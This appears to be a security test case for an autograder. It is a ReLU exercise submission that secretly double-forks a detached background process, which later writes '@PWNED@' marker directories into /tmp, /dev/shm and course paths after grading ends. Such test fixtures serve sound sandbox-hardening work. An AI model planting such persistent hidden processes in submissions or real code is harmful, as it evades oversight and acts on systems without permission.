# /// attack
# tries = "leaves a process that writes when all is over"
# question = "relu_forward"
# verdict = ["PASSED"]
# ///
# %% question="relu_forward"
import contextlib
import os
import time

import numpy as np


def later():
    time.sleep(3)
    for place in ("/tmp", "/dev/shm", ".", "@COURSE@", "@ROOT@"):
        with contextlib.suppress(OSError):
            os.mkdir(f"{place}/@PWNED@")
    os._exit(0)


def relu_forward(x):
    if os.fork() == 0:
        os.setsid()
        if os.fork() == 0:
            os.closerange(0, 64)
            later()
        os._exit(0)
    return np.maximum(x, 0)
